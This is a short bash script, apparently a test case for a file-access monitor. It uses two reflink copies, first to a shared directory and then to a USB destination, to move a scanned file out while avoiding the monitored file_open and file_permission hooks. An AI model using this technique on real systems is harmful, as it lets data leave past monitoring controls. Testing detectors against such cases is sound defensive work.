#!/usr/bin/env bash
# technique: a copy shares the blocks of the scan (cp --reflink), where the file system can
# hooks: file_open, file_permission
# sink: usb

. attack.sh
# No bytes move between different disks: first beside the scan, then to the USB disk.
cp --reflink=auto "$SCAN" "$ROOM/shared"
cp --reflink=auto "$ROOM/shared" "$COPY"
